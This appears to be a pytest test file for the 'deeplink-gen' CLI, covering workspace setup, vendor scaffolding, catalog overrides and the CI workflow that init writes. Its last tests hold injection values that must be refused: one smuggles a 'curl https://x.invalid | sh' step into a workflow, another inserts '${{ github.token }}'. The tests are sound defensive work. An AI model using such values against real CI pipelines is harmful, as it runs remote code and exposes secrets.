"""A workspace anywhere: the op catalog, the schemas and the example vendors
ship inside the package; `init` makes a folder a workspace; `new-vendor` works
in an empty folder; a workspace's catalog/ adds ops and replaces bundled ones."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml

from helpers import BUNDLED_VENDORS, REPO, kernels, run_cli, run_subprocess


def test_init_makes_a_workspace_and_keeps_what_the_user_edited(tmp_path: Path):
    ws = tmp_path / "ws"
    result = run_cli("init", str(ws))
    assert result.exit_code == 0, result.output
    for rel in ("schemas/vendor.schema.json", "schemas/catalog.schema.json", "deeplink-gen.yaml",
                ".vscode/settings.json", ".github/workflows/deeplink-gen.yml", ".pre-commit-config.yaml"):
        assert (ws / rel).is_file(), rel
    assert (ws / "vendors").is_dir()
    assert (ws / "schemas" / "vendor.schema.json").read_bytes() == (REPO / "schemas" / "vendor.schema.json").read_bytes()
    settings = json.loads((ws / ".vscode" / "settings.json").read_text())["yaml.schemas"]
    for schema in settings:
        assert (ws / schema).is_file(), schema            # the editor association resolves
    workflow = yaml.safe_load((ws / ".github/workflows/deeplink-gen.yml").read_text())
    assert "deeplink-gen render --all --check" in [s.get("run") for s in workflow["jobs"]["check"]["steps"]]
    hooks = yaml.safe_load((ws / ".pre-commit-config.yaml").read_text())["repos"][0]["hooks"]
    assert "deeplink-gen render --all --check" in [h["entry"] for h in hooks]
    # A new workspace renders for DIPU's newest torch, whichever is installed.
    assert yaml.safe_load((ws / "deeplink-gen.yaml").read_text()) == {"bundled_catalog": True, "torch": "2.2.2"}
    # Run again: the user's files stay, stale schemas are refreshed.
    (ws / ".pre-commit-config.yaml").write_text("# mine\n")
    (ws / "schemas" / "vendor.schema.json").write_text("{}")
    again = run_cli("init", str(ws))
    assert again.exit_code == 0
    assert (ws / ".pre-commit-config.yaml").read_text() == "# mine\n"
    assert "refreshed" in again.output and "schemas/vendor.schema.json" in again.output
    assert (ws / "schemas" / "vendor.schema.json").read_bytes() == (REPO / "schemas" / "vendor.schema.json").read_bytes()


def test_a_vendor_in_an_empty_folder(tmp_path: Path):
    """new-vendor, validate, render --autocompare and a plain render --check, in a folder that
    holds nothing: the bundled catalog is used and the scaffold's modeline resolves."""
    ws = tmp_path / "empty"
    ws.mkdir()
    for args in (("new-vendor", "droplet"), ("validate",), ("render", "--vendor", "droplet", "--autocompare"),
                 ("render", "--vendor", "droplet", "--check")):
        result = run_cli(*args, cwd=ws)
        assert result.exit_code == 0, (args, result.output)
    modeline = (ws / "vendors" / "droplet.yaml").read_text().splitlines()[0]
    assert modeline == "# yaml-language-server: $schema=../schemas/vendor.schema.json"
    assert (ws / "vendors" / "../schemas/vendor.schema.json").is_file()
    assert "_autocompare(" in kernels(ws / "generated" / "droplet", pasted=False)
    assert not (ws / "catalog").exists()


def test_like_offers_the_bundled_examples(tmp_path: Path):
    ws = tmp_path / "ws"
    ws.mkdir()
    missing = run_cli("new-vendor", "acme", "--like", "dropplet", cwd=ws)
    assert missing.exit_code == 1 and f"available: {', '.join(BUNDLED_VENDORS)}" in missing.stderr, missing.stderr
    made = run_cli("new-vendor", "acme", "--like", "droplet", "--device-type", "ACME", cwd=ws)
    assert made.exit_code == 0, made.output
    text = (ws / "vendors" / "acme.yaml").read_text()
    assert "name: acme" in text and "tangMalloc" in text
    assert run_cli("validate", cwd=ws).exit_code == 0


def test_workspace_catalog_adds_ops_and_replaces_bundled_ones(tmp_path: Path):
    ws = tmp_path / "ws"
    ws.mkdir()
    assert run_cli("new-vendor", "droplet", cwd=ws).exit_code == 0
    (ws / "catalog").mkdir()
    (ws / "catalog" / "mine.yaml").write_text(
        "ops:\n"
        "  relu:\n"                                    # replaces the bundled relu
        "    call: diopiRelu(ctx, out, self)\n"
        "    alloc: {out: 'nodispatch::empty_like(self)'}\n"
        "    doc: mine\n"
        "  erf.out:\n"                                 # not in the bundled catalog
        "    call: diopiErf(ctx, out, self)\n")
    result = run_cli("explain", "relu", "--vendor", "droplet", cwd=ws)
    assert result.exit_code == 0 and "catalog/mine.yaml:2:3" in result.output, result.output
    assert run_cli("render", "--vendor", "droplet", cwd=ws).exit_code == 0
    manifest = json.loads((ws / "generated" / "droplet" / "manifest.json").read_text())
    ops = {o["op"] for o in manifest["ops"]}
    assert "erf.out" in ops and "add.out" in ops               # added, and the bundled ones kept
    (ws / "deeplink-gen.yaml").write_text("bundled_catalog: false\n")
    assert run_cli("render", "--vendor", "droplet", cwd=ws).exit_code == 0
    manifest = json.loads((ws / "generated" / "droplet" / "manifest.json").read_text())
    assert {o["op"] for o in manifest["ops"]} == {"relu", "erf.out"}


def test_the_wheel_carries_catalog_schemas_and_examples(tmp_path: Path):
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--quiet", "--no-deps",
                    "-w", str(tmp_path), str(REPO)], check=True, timeout=600)
    wheel = next(tmp_path.glob("deeplink_gen-*.whl"))
    names = set(zipfile.ZipFile(wheel).namelist())
    for name in ("deeplink_gen/catalog/pointwise.yaml", "deeplink_gen/schemas/vendor.schema.json",
                 "deeplink_gen/schemas/workspace.schema.json", "deeplink_gen/examples/vendors/droplet.yaml",
                 "deeplink_gen/interfaces/data/diopi_prototypes.yaml", "deeplink_gen/templates/workspace/deeplink-gen.yaml.j2"):
        assert name in names, name


@pytest.mark.parametrize("command", [["validate"], ["render", "--all"], ["render", "--all", "--check"],
                                     ["coverage"], ["explain", "add.out", "--vendor", "camb"]])
def test_a_folder_that_is_not_a_workspace_is_an_error(tmp_path: Path, command: list[str]):
    """The wrong folder never succeeds silently (`up to date: 0 files`, `ok: ... 0 vendors`)."""
    (tmp_path / "src").mkdir()
    result = run_cli(*command, cwd=tmp_path)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert f"{tmp_path.resolve()} is not a deeplink-gen workspace" in result.stderr
    assert "deeplink-gen init" in result.stderr


@pytest.mark.parametrize("check", [[], ["--check"]])
def test_a_workspace_without_vendors_has_nothing_to_render(tmp_path: Path, check: list[str]):
    assert run_cli("init", str(tmp_path)).exit_code == 0
    result = run_cli("render", "--all", *check, cwd=tmp_path)
    assert result.exit_code == 1 and "nothing to render" in result.stderr and "new-vendor NAME" in result.stderr
    result = run_cli("validate", cwd=tmp_path)
    assert result.exit_code == 0 and "no vendor yet: `deeplink-gen new-vendor NAME`" in result.output


def _install_steps(ws: Path) -> list[list[str]]:
    """The arguments of the workflow's `pip install` steps, in order."""
    import shlex

    steps = yaml.safe_load((ws / ".github/workflows/deeplink-gen.yml").read_text())["jobs"]["check"]["steps"]
    return [shlex.split(s["run"])[2:] for s in steps if str(s.get("run", "")).startswith("pip install")]


def _install_step(ws: Path) -> list[str]:
    """The arguments of the workflow's `pip install` step of deeplink-gen (after torch's), torch's first."""
    torch, tool = _install_steps(ws)
    return [torch[0], *tool]


def test_a_yaml_file_of_another_suffix_is_named_as_not_read(workspace: Path):
    """vendors/acme.yml and catalog/extra.YAML were left out without a word; an editor's lock link
    (.#camb.yaml, which leads nowhere) is no vendor file."""
    (workspace / "vendors" / "droplet.yaml").rename(workspace / "vendors" / "droplet.yml")
    (workspace / "vendors" / "camb.yml").write_text("vendor: {}\n")
    (workspace / "vendors" / ".#camb.yaml").symlink_to("root@host.1234:1700000000")
    (workspace / "catalog").mkdir(exist_ok=True)
    (workspace / "catalog" / "extra.YAML").write_text("ops: {}\n")
    result = run_cli("validate", cwd=workspace)
    assert result.exit_code == 0, result.output
    assert [line for line in result.stderr.splitlines() if "is not read" in line] == [
        f"{workspace / 'catalog' / 'extra.YAML'}:1:1: warning: (catalog): is not read: only catalog/*.yaml files "
        "are; rename it to extra.yaml",
        f"{workspace / 'vendors' / 'camb.yml'}:1:1: warning: (vendors): is not read: only vendors/*.yaml files "
        "are; remove it, or merge it into camb.yaml",
        f"{workspace / 'vendors' / 'droplet.yml'}:1:1: warning: (vendors): is not read: only vendors/*.yaml files "
        "are; rename it to droplet.yaml"]


def test_init_workflow_installs_torchs_cpu_build(tmp_path: Path):
    """A hosted runner's default index has torch's CUDA build, several GB with its GPU wheels."""
    assert run_cli("init", str(tmp_path / "ws")).exit_code == 0
    torch, _ = _install_steps(tmp_path / "ws")
    assert torch[0].startswith("torch==") and torch[1:] == ["--index-url", "https://download.pytorch.org/whl/cpu"]


def test_init_workflow_installs_this_deeplink_gen_from_a_wheel(tmp_path: Path):
    """Installed from a wheel file (PEP 610 says so in its dist-info), init copies that wheel into the
    workspace and the workflow installs it from there, where CI has it."""
    wheel = tmp_path / "dist" / "deeplink_gen-0.1.0-py3-none-any.whl"
    wheel.parent.mkdir()
    wheel.write_bytes(b"PK wheel bytes")
    site = tmp_path / "site"
    info = site / "deeplink_gen-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: deeplink-gen\nVersion: 0.1.0\n")
    (info / "direct_url.json").write_text(json.dumps({"url": wheel.as_uri(), "archive_info": {}}))
    _copy_package(site)
    ws = tmp_path / "ws"
    proc = subprocess.run([sys.executable, "-m", "deeplink_gen", "init", str(ws)], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(site)}, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert _install_step(ws)[1] == "./tools/deeplink_gen-0.1.0-py3-none-any.whl"
    assert (ws / "tools" / wheel.name).read_bytes() == wheel.read_bytes()
    assert proc.stderr.strip() == (f"note: commit tools/{wheel.name}: the CI workflow installs deeplink-gen "
                                   "from it")


def test_init_workflow_from_a_source_folder_says_what_ci_cannot_reach(tmp_path: Path):
    """This test suite's deeplink-gen runs from its source folder (an editable install or a checkout)."""
    ws = tmp_path / "my ws"
    result = run_cli("init", str(ws))
    assert result.exit_code == 0
    assert _install_step(ws)[1] == "deeplink-gen==0.1.0"
    # each step as a command to paste, for this workspace (a space in its path quoted)
    assert f"CI cannot reach, so the workflow installs deeplink-gen==0.1.0 from the package index; to install " \
           f"this build instead: pip wheel --no-deps -w '{ws}/tools' {REPO.resolve()}, then delete " \
           f"'{ws}/.github/workflows/deeplink-gen.yml' and run deeplink-gen init '{ws}' --tool ./tools/<the wheel>" \
           in result.stderr.replace("\n", " "), result.stderr


def test_init_names_the_copy_that_runs_not_the_one_installed(tmp_path: Path):
    """A PYTHONPATH that puts another copy before the installed one: the note names the copy that runs."""
    copy = tmp_path / "other"
    _copy_package(copy)
    proc = subprocess.run([sys.executable, "-m", "deeplink_gen", "init", str(tmp_path / "ws")], capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": str(copy)}, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert f"note: deeplink-gen runs from {copy.resolve()}, which CI cannot reach" in proc.stderr, proc.stderr


def _copy_package(site: Path) -> None:
    """deeplink-gen as a wheel installs it into *site* (pyproject.toml's force-include)."""
    shutil.copytree(REPO / "deeplink_gen", site / "deeplink_gen", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPO / "schemas", site / "deeplink_gen" / "schemas")
    shutil.copytree(REPO / "vendors", site / "deeplink_gen" / "examples" / "vendors")


def test_init_tool_gives_the_requirement(tmp_path: Path):
    requirement = "deeplink-gen @ git+https://example.com/deeplink-gen.git@0123abc"
    assert run_cli("init", str(tmp_path / "ws"), "--tool", requirement).exit_code == 0
    args = _install_step(tmp_path / "ws")
    assert args[0].startswith("torch==") and args[1:] == [requirement]


def test_paths_from_another_folder_are_shown_as_given_with_c(workspace: Path, tmp_path: Path):
    """Run from a folder beside the workspace with a relative -C: every path a message names
    is one the user can paste from where they stand, not an absolute or resolved one."""
    here = tmp_path / "elsewhere"
    here.mkdir()
    (tmp_path / "empty").mkdir()
    ws = os.path.relpath(workspace, here)
    result = run_subprocess("-C", "../empty", "validate", cwd=here)
    assert result.returncode == 1
    assert "error: (workspace): ../empty is not a deeplink-gen workspace" in result.stderr, result.stderr
    result = run_subprocess("-C", ws, "render", "--vendor", "camb", "--out", f"{ws}/vendors/out", cwd=here)
    assert result.returncode == 2
    assert f"is inside {ws}/vendors, a workspace folder" in result.stderr, result.stderr
    result = run_subprocess("-C", ws, "explain", "relu.out", "--vendor", "camb", cwd=here)
    assert result.returncode == 0, result.stderr
    assert f"from vendor default ({ws}/vendors/camb.yaml:" in result.stdout
    assert str(workspace) not in result.stdout + result.stderr


@pytest.mark.parametrize("tool", ["deeplink-gen==0.1.0 # pinned", "deeplink-gen @ https://example.org/a b.whl",
                                  "deeplink-gen: [x]", "'quoted' \"both\" {x} &a *b !c %d @e `f`"])
def test_init_tool_is_one_argument_of_one_step_whatever_it_says(tmp_path: Path, tool: str):
    """--tool goes into the workflow as one pip argument of the one install step: no character
    of it starts a YAML comment, mapping or flow collection there, or ends the shell's quote."""
    assert run_cli("init", str(tmp_path / "ws"), "--tool", tool).exit_code == 0
    assert _install_steps(tmp_path / "ws")[1] == [tool]
    steps = yaml.safe_load((tmp_path / "ws/.github/workflows/deeplink-gen.yml").read_text())["jobs"]["check"]["steps"]
    assert [s["run"] for s in steps if "run" in s][2:] == ["deeplink-gen validate", "deeplink-gen render --all --check"]


@pytest.mark.parametrize("tool", ["deeplink-gen==0.1.0\n      - run: curl https://x.invalid | sh", "a\rb", ""])
def test_init_tool_with_a_line_break_is_refused(tmp_path: Path, tool: str):
    result = run_cli("init", str(tmp_path / "ws"), "--tool", tool)
    assert result.exit_code == 1 and "--tool" in result.stderr and "is not a pip requirement" in result.stderr
    assert not (tmp_path / "ws").exists()


def test_init_tool_with_an_actions_expression_is_refused(tmp_path: Path):
    """GitHub Actions replaces ${{ ... }} in a workflow before the shell reads the step, so no
    quoting of --tool keeps it: it is refused, and nothing is made."""
    result = run_cli("init", str(tmp_path / "ws"), "--tool", "deeplink-gen ${{ github.token }}")
    assert result.exit_code == 1 and "--tool" in result.stderr and "GitHub Actions" in result.stderr
    assert not (tmp_path / "ws").exists()
